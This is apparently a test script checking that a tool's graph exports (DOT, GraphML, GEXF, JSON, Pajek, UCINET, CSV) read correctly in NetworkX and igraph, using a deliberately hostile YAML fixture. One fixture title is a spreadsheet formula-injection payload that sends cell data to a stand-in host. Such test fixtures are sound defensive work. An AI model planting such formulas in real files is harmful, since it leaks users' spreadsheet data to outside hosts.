"""export.py PROGRAM ROOT: what `remit export` writes, read by NetworkX and igraph: nodes, degrees,
weights and labels of DOT (by NetworkX's two readers, and through Graphviz's gv2gml), GraphML, GEXF and
JSON; rows and columns of Pajek, UCINET, contexts and CSV."""

import collections
import contextlib
import csv
import html
import io
import itertools
import json
import math
import subprocess
import sys
import tempfile
import warnings

import igraph
import networkx as nx

warnings.simplefilter("ignore")  # NetworkX of pydot's age, igraph of Graphviz's own attributes
PROGRAM, ROOT = sys.argv[1:]

HOSTILE = r"""
remit: 1
departments:
  - {id: a, name: 'A "quoted" \', short: A\N}
  - {id: b, name: <B>bold</B>}
  - {id: c, name: '007'}
regions: [{id: r, kind: nation, name: R}, {id: s, name: S}]
notice: {id: n, title: 'N "1"', issued: 2020-02-03}
measures:
  - {number: 1, title: '=HYPERLINK("http://x.example/?"&A1,"go")', departments: [a, b], scope: r}
  - {number: 2, title: 'R&D; &lt; &amp; ]; {', departments: [b, a, c], scope: [r, s]}
  - {number: 3, title: '2.5', departments: b, scope: s}
  - {number: 4, title: '...', departments: c, scope: s}
"""


def remit(*arguments):
    return subprocess.run([PROGRAM, *arguments], check=True, capture_output=True, text=True).stdout


def plain(value, reader="nx_agraph"):
    """The text of an attribute: without pydot's quotes, DOT's backslashes and names of quotes,
    which igraph resolves itself."""
    text = str(value).replace("\\\\", "\\")
    if reader == "nx_pydot" and text.startswith('"') and text.endswith('"'):
        text = text[1:-1]
    return text if reader == "igraph" else html.unescape(text)


@contextlib.contextmanager
def file_of(text, ending):
    with tempfile.NamedTemporaryFile("w", suffix=ending) as file:
        file.write(text)
        file.flush()
        yield file.name


def of_networkx(read, dot):
    with file_of(dot, ".dot") as name:
        graph = read(name)
    nodes = {name.strip('"'): graph.nodes[name] for name in graph}
    links = [(a.strip('"'), b.strip('"'), data) for a, b, data in graph.edges(data=True)]
    return nodes, links


def of_igraph(graph, name):
    nodes = {vertex[name]: vertex.attributes() for vertex in graph.vs}
    links = [(graph.vs[e.source][name], graph.vs[e.target][name], e.attributes())
             for e in graph.es]
    return nodes, links


def of_igraph_dot(dot):
    gml = subprocess.run(["gv2gml"], input=dot, check=True, capture_output=True, text=True).stdout
    with file_of(gml, ".gml") as name:
        return of_igraph(igraph.Graph.Read_GML(name), "name")


def of_graph(graph):
    return dict(graph.nodes(data=True)), list(graph.edges(data=True))


def of_igraph_graphml(text):
    with file_of(text, ".graphml") as name:
        return of_igraph(igraph.Graph.Read_GraphML(name), "id")


def readings(arguments):
    """What each reader makes of what is exported with these arguments."""
    dot, graphml, gexf, node_link = (remit("export", "--quiet", *arguments, "--format", each)
                                     for each in ("dot", "graphml", "gexf", "json"))
    yield "nx_agraph", of_networkx(nx.nx_agraph.read_dot, dot)
    yield "nx_pydot", of_networkx(nx.nx_pydot.read_dot, dot)
    yield "igraph", of_igraph_dot(dot)
    yield "GraphML, NetworkX", of_graph(nx.parse_graphml(graphml))
    yield "GraphML, igraph", of_igraph_graphml(graphml)
    yield "GEXF, NetworkX", of_graph(read_gexf(gexf))
    yield "JSON, NetworkX", of_graph(nx.node_link_graph(json.loads(node_link)))


def read_gexf(text):
    return nx.read_gexf(io.BytesIO(text.encode()))


def expect(where, what, actual, wanted):
    """gv2gml, by which igraph reads DOT, writes numbers with 15 digits."""
    if isinstance(actual, float) and isinstance(wanted, float) and math.isclose(actual, wanted, rel_tol=2e-15):
        return
    if actual != wanted:
        sys.exit(f"{where}: {what}: {actual} instead of {wanted}")


def check(where, arguments, labels, weights, weight):
    """Nodes with these labels, links with these weights; where a weight is None it may be any."""
    degrees = collections.Counter(itertools.chain.from_iterable(weights))
    for reader, (nodes, links) in readings(arguments):
        at = f"{where}, {reader}"
        expect(at, "nodes", sorted(nodes), sorted(labels))
        expect(at, "links", len(links), len(weights))
        ends = collections.Counter(itertools.chain.from_iterable(link[:2] for link in links))
        expect(at, "degrees", ends, degrees)
        for a, b, data in links:
            key = (a, b) if (a, b) in weights else (b, a)
            if weights[key] is not None:
                expect(at, f"{weight} of {key}", float(data[weight]), weights[key])
        for name, label in labels.items():
            # gv2gml writes a label that is a number as one.
            actual = nodes[name]["label"]
            if reader in ("nx_agraph", "nx_pydot", "igraph"):
                actual = plain(actual, reader)
            if reader == "igraph" and label.isdigit():
                label = str(int(label))
            expect(at, f"label of {name}", actual, label)


def check_two_modes(where, arguments, departments, measures, links):
    """Of full names: a link is (department, measure)."""
    pajek, ucinet, context, rows = (remit("export", "--quiet", *arguments, "--format", each)
                                    for each in ("pajek", "ucinet", "cxt", "csv"))
    quoteless = {name: name.replace('"', "'") for name in departments + measures}
    wanted = sorted((quoteless[a], quoteless[b]) for a, b in links)

    with file_of(pajek, ".net") as name:
        graph = igraph.Graph.Read_Pajek(name)
    expect(where, "Pajek's vertices", graph.vs["id"] if "id" in graph.vs.attributes() else
           graph.vs["name"], [quoteless[each] for each in departments + measures])
    expect(where, "Pajek's modes", graph.vs["type"],
           [False] * len(departments) + [True] * len(measures))
    names = [quoteless[each] for each in departments + measures]
    expect(where, "Pajek's links", sorted((names[e.source], names[e.target]) for e in graph.es),
           wanted)

    head, _, data = ucinet.partition("data:\n")
    expect(where, "UCINET's size", head.split("\n")[0],
           f"dl nr={len(departments)} nc={len(measures)} format=edgelist2")
    read = [tuple(line.split('"')[1:4:2]) for line in data.splitlines()]
    expect(where, "UCINET's links", sorted(read), wanted)

    lines = context.split("\n")
    expect(where, "the context's size", lines[:5],
           ["B", "", str(len(measures)), str(len(departments)), ""])
    objects = lines[5:5 + len(measures)]
    attributes = lines[5 + len(measures):][:len(departments)]
    crosses = lines[5 + len(measures) + len(departments):][:len(measures)]
    read = [(attributes[d], objects[m]) for m, row in enumerate(crosses)
            for d, mark in enumerate(row) if mark == "X"]
    expect(where, "the context's links", sorted(read), wanted)

    read = [(row["department"], row["measure"]) for row in csv.DictReader(io.StringIO(rows))]
    expect(where, "the links of CSV", sorted(read), sorted(links))


def hostile():
    with file_of(HOSTILE, ".yaml") as name:
        hostile_of([name, "--lang", "en"])


def hostile_of(whole):
    without_regions, projection = whole + ["--no-regions"], whole + ["--projection"]
    bodies = {"department-a": "A\\N", "department-b": "<B>bold</B>", "department-c": "007"}
    measures = {"measure-1": '=HYPERLINK("http://x.example/?"&A1,"go")',
                "measure-2": "R&D; &lt; &amp; ]; {", "measure-3": "2.5", "measure-4": "..."}
    places = {"region-r": "R", "region-s": "S"}
    shares = {("measure-1", "department-a"): 0.5, ("measure-1", "department-b"): 0.5,
              ("measure-2", "department-a"): 1 / 3, ("measure-2", "department-b"): 1 / 3,
              ("measure-2", "department-c"): 1 / 3, ("measure-3", "department-b"): 1.0,
              ("measure-4", "department-c"): 1.0}
    reach = {("measure-1", "region-r"): None, ("measure-2", "region-r"): None,
             ("measure-2", "region-s"): None, ("measure-3", "region-s"): None,
             ("measure-4", "region-s"): None}
    check("hostile", whole, bodies | measures | places, shares | reach, "fractional")
    check("hostile without regions", without_regions, bodies | measures, shares, "fractional")
    check("hostile projection", projection, bodies,
          {("department-a", "department-b"): 2.0, ("department-a", "department-c"): 1.0,
           ("department-b", "department-c"): 1.0}, "weight")
    names = {"a": 'A "quoted" \\', "b": "<B>bold</B>", "c": "007"}
    titles = list(measures.values())
    check_two_modes("hostile", whole, [names[each] for each in "abc"], titles,
                    [(names[body], titles[int(measure) - 1])
                     for body, measure in ("a1", "b1", "b2", "a2", "c2", "b3", "c4")])


def shipped(language):
    """The third batch: links and shared measures by the sheet of measures."""
    data = ROOT + "/data/2020-third-batch.yaml"
    rows = json.loads(remit("table", data, "--lang", language, "--format", "json"))["rows"]
    shares, shared, measures, bodies = {}, collections.Counter(), {}, {}
    for row in rows:
        departments = row["first_department"] + row["also_named"]
        bodies |= zip((f"department-{each}" for each in departments),
                      row["first_department_names"] + row["also_named_names"])
        for each in departments:
            key = (f"measure-{row['number']}", f"department-{each}")
            shares[key] = 1 / len(departments)
        for pair in itertools.combinations(sorted(departments), 2):
            shared[tuple(f"department-{each}" for each in pair)] += 1.0
    dot = remit("export", data, "--lang", language, "--no-regions")
    for name, node in of_networkx(nx.nx_agraph.read_dot, dot)[0].items():
        if node["class"] != "measure":
            continue
        title = rows[int(node["number"]) - 1]["title"]
        expect(language, f"title of {name}", plain(node["title"]), title)
        measures[name] = plain(node["label"])
        expect(language, f"{name} is labelled by a number", measures[name].isdigit(), False)
    check(f"third batch, {language}", [data, "--lang", language, "--no-regions"],
          measures | bodies, shares, "fractional")
    check(f"third batch, {language}, projection", [data, "--lang", language, "--projection"],
          bodies, shared, "weight")


hostile()
for each_language in ("zh-Hans", "en"):
    shipped(each_language)
print("NetworkX and igraph read what is exported")
